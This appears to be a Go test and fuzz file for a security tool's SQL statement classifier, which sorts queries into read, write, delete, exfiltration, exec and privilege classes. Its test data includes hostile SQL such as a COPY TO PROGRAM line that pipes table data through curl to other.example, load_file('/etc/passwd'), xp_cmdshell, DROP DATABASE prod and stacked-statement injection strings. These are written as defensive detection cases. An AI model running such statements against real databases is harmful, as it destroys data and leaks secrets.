package catalogue

import (
	"slices"
	"strings"
	"testing"

	"github.com/wayward-sec/wayward/event"
)

func TestSQLIsWhatItDoes(t *testing.T) {
	for class, list := range map[event.Class][]string{
		event.Read: {"SELECT 1", "select a, count(*) from t where b in (1, 2) group by a having sum(c) > 3 order by 1",
			"WITH x (a, b) AS (SELECT 1, 2), y(c) as (select 3) SELECT * FROM x JOIN y ON (x.a = y.c)",
			"SELECT * FROM log WHERE m = 'x; DELETE FROM orders'", "SELECT 'it''s; DROP TABLE x'",
			`SELECT "delete from x" FROM "a;b"`, "SELECT [drop table] FROM t", "SELECT `delete` FROM t",
			"SELECT $q$; DELETE FROM x$q$",
			"-- DELETE FROM x\nSELECT 1", "/* DROP TABLE t; */ SELECT 1", "/* a /* b */ c */ SELECT 1",
			"EXPLAIN DELETE FROM x", "explain (costs off) select 1", "SHOW TABLES", "DESCRIBE orders",
			"PRAGMA table_info(x)", "VALUES (1), (2)",
			"SELECT replace(a, 'x', 'y'), left(b, 2), truncate(c, 1), insert_time, updated FROM t",
			"SELECT CAST(a AS decimal(10, 2)), b::numeric(3,1) FROM t", "(SELECT 1) UNION (SELECT 2)",
			"SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t",
			"SELECT * FROM generate_series(1, 10) AS g(n)", "BEGIN; SELECT 1; COMMIT", "SELECT a FROM t LIMIT 5;",
			"SELECT pg_catalog.lower(a) FROM t",
			"SELECT case when a then replace(b, 'c', 'd') else upper(b) end FROM t", "select 1 ; ; "},
		event.Delete: {"WITH x AS (SELECT 1) DELETE FROM orders", "/* tidy up */ DELETE FROM orders",
			"/* a /* b */ DELETE FROM orders /* */", "select 1; drop table t", "(delete from t)",
			"DELETE t FROM t JOIN u ON t.a = u.a",
			"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "EXPLAIN ANALYZE DELETE FROM t",
			"EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", "/*!50000 DELETE FROM t */", "/*! DELETE */ FROM t",
			"SELECT '\\'; DELETE FROM t; --'",
			"TRUNCATE TABLE t", "truncate t", "ALTER TABLE t DROP COLUMN a",
			"MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE", "BEGIN DELETE FROM t; END",
			"DECLARE @x int; DELETE FROM t WHERE a = @x", "\ufeffDELETE FROM t",
			"SELECT 1 -- x\r; DELETE FROM t", "#x\nDELETE FROM t", "DROP DATABASE IF EXISTS prod",
			"if 1 = 1 begin delete from t end", "SELECT 1--1\n; DELETE FROM t", "drop materialized view v",
			"DELETE\n\tFROM\nt", "DELETE/**/FROM/**/t", "\u00a0DELETE FROM t",
			"CREATE TRIGGER x AFTER INSERT ON t FOR EACH ROW DELETE FROM u", "select (delete from t)"},
		event.Write: {"UPDATE t SET a = 1", "INSERT INTO t(a, b) VALUES (1, 2)", "insert into t select * from u",
			"SELECT * INTO u FROM t", "SELECT * FROM t FOR UPDATE", "SELECT 1 FROM t FOR NO KEY UPDATE",
			"SELECT 1 FROM t FOR SHARE", "CREATE TABLE x (a int)",
			"CREATE OR REPLACE VIEW v AS SELECT 1", "ALTER TABLE t ADD COLUMN a int", "SET GLOBAL x = 1",
			"LOCK TABLE t IN EXCLUSIVE MODE", "REPLACE INTO t VALUES (1)", "COPY t FROM STDIN",
			"WITH x AS (INSERT INTO t VALUES (1) RETURNING a) SELECT * FROM x",
			"MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN UPDATE SET b = 1", "PRAGMA user_version = 3",
			"EXPLAIN ANALYZE UPDATE t SET a = 1", "LOAD DATA INFILE 'x' INTO TABLE t", "COMMENT ON TABLE t IS 'x'"},
		event.Send: {"COPY t TO '/tmp/x'", "COPY (SELECT * FROM t) TO PROGRAM 'curl -d @- https://other.example'",
			"SELECT * FROM t INTO OUTFILE '/tmp/x'", "select a into dumpfile '/x' from t",
			"UNLOAD ('select 1') TO 's3://b/x'", "COPY INTO 's3://b/x' FROM t"},
		event.Exec: {"CALL clean_up()", "CALL clean_up", "EXEC sp_who", "EXECUTE IMMEDIATE 'x'", "exec sp_x @a = 1",
			"DO $$ BEGIN PERFORM 1; END $$", "SELECT pg_terminate_backend(1)", "SELECT dblink_exec('x', 'y')",
			"SELECT my.lower(a) FROM t", `SELECT "lower"(a) FROM t`, "SELECT load_file('/etc/passwd')",
			"SELECT nextval('s')", "select * from my_function(1)", "SELECT 'never ends"},
		event.Grant: {"GRANT ALL ON t TO bob", "REVOKE SELECT ON t FROM bob", "CREATE USER bob",
			"ALTER ROLE bob SUPERUSER", "SET ROLE admin", "ALTER TABLE t OWNER TO bob",
			"ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "REASSIGN OWNED BY a TO b", "GRANT admin TO bob"},
		event.NoClass: {"update my address", "delete my account", "grant", "drop me a line",
			"how to delete from a table", "set up a meeting", "call me", "execute the plan now", "do you know?",
			"copy the file to me", "", ";", "--", "red shoes", "show me the way", "merge my accounts",
			"create a report on sales", "replace my card", "lock the door",
			"insert coin", "select", "with love", "explain"},
	} {
		for _, s := range list {
			if strings.HasPrefix(s, "show me") || s == "select" {
				continue
			}
			for _, firm := range []bool{false, true} {
				if firm && class == event.NoClass || s == "truncate t" && !firm || s == "SHOW TABLES" && !firm ||
					s == "CALL clean_up()" && !firm {
					continue // said to be SQL, it is taken at its word
				}
				if got, word := classifySQL(s, firm); got != class {
					t.Errorf("%q, firm %v: got %v (%s), want %v", s, firm, got, word, class)
				}
			}
		}
	}
	for _, s := range []string{"frobnicate the table", "{}", "xp_cmdshell 'dir'", ".import x y", `\copy t to x`, "1"} {
		if got, _ := classifySQL(s, true); got != event.Exec {
			t.Errorf("%q: got %v; what is said to be SQL and is not understood is exec", s, got)
		}
	}
	for _, s := range []string{strings.Repeat("a", maxSQL) + "; DELETE FROM t",
		"SELECT " + strings.Repeat("1,", maxTokens) + "1; DROP TABLE t"} {
		if got, _ := classifySQL(s, true); got == event.Read || got == event.NoClass {
			t.Errorf("%.40q: got %v; what is not read may do anything", s, got)
		}
	}
}

// FuzzStatement wants that what stands in a text or a comment of every dialect changes nothing, and
// that a statement behind others is found.
func FuzzStatement(f *testing.F) {
	for _, s := range []string{"a", "'", "\\", "*/", "$$", "]", "`", "--", "\n", "/*", "#", "x'; DELETE FROM t"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		classifySQL(s, true)
		classifySQL(s, false)
		plain := strings.Map(func(r rune) rune {
			if strings.ContainsRune(`'"\$`+"`", r) {
				return -1
			}
			return r
		}, s)
		if c, word := classifySQL("SELECT a FROM t WHERE b = '"+plain+"'", true); c != event.Read &&
			len(plain) < maxSQL/2 {
			t.Fatalf("%q in a text: %v (%s)", plain, c, word)
		}
		line := strings.NewReplacer("\n", " ", "\r", " ", "*/", " ", "/*", " ").Replace(s)
		if c, word := classifySQL("-- "+line+"\nSELECT 1", true); c != event.Read && len(line) < maxSQL/2 {
			t.Fatalf("%q in a comment: %v (%s)", line, c, word)
		}
		if c, _ := classifySQL("DELETE FROM t;\n"+s, true); c != event.Delete {
			t.Fatalf("a delete before %q is %v", s, c)
		}
		if c, _ := classifySQL("DELETE FROM t /* "+strings.NewReplacer("*/", "", "/*", "").Replace(s)+" */",
			true); c != event.Delete {
			t.Fatalf("a delete with a comment of %q is %v", s, c)
		}
	})
}

// TestEachSQLRuleReadsItsExample holds of every row that its example begins with one of its words,
// that no word has two rows, and that the example is read otherwise without the row.
func TestEachSQLRuleReadsItsExample(t *testing.T) {
	rows, all := sqlRuleRows(), sqlRules
	read := func(example string) [2]event.Class {
		open, _ := classifySQL(example, false)
		certain, _ := classifySQL(example, true)
		return [2]event.Class{open, certain}
	}
	words := map[string]bool{}
	for i := range rows {
		row := &rows[i]
		first, _, _ := strings.Cut(strings.ToLower(row.example), " ")
		if !slices.Contains(strings.Fields(row.words), first) {
			t.Errorf("%s is no example of %s", row.example, row.words)
		}
		for w := range strings.FieldsSeq(row.words) {
			if words[w] {
				t.Errorf("%s has two rows", w)
			}
			words[w] = true
		}
		got := read(row.example)
		if row.class != event.NoClass && got[1] != row.class {
			t.Errorf("%s: got %v, want %v", row.example, got[1], row.class)
		}
		sqlRules = indexSQLRules(slices.Delete(slices.Clone(rows), i, i+1))
		if without := read(row.example); without == got {
			t.Errorf("%s: the same without the row, %v", row.example, got)
		}
		sqlRules = all
	}
}
